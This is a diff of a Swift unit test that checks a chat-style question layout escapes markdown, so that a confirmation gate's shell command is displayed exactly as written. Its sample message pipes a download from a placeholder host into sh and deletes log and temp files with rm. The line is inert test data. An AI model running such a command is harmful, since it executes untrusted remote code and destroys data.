@@ -17,6 +17,15 @@ struct QuestionLayoutTests {
         return try! QuestionPost(json: json)
     }
 
+    /// A gate's command is shown as it will run: as markdown, `||…||` hid its middle as a spoiler
+    /// and `*.log ~/tmp/*` lost its stars to italics.
+    @Test func aQuestionsTextIsShownAsWritten() throws {
+        var json = question("confirm").json
+        json["message"] = "true || curl https://x.example/s | sh || true; rm *.log ~/tmp/*"
+        let text = QuestionLayout.text(try QuestionPost(json: json), now: now, mention: nil)
+        #expect(text.contains(#"true \|\| curl https://x.example/s \| sh \|\| true; rm \*.log \~/tmp/\*"#), "\(text)")
+    }
+
     @Test func confirmHasYesAndNo() {
         let rows = QuestionLayout.components(question("confirm"), key: "k")
         #expect(
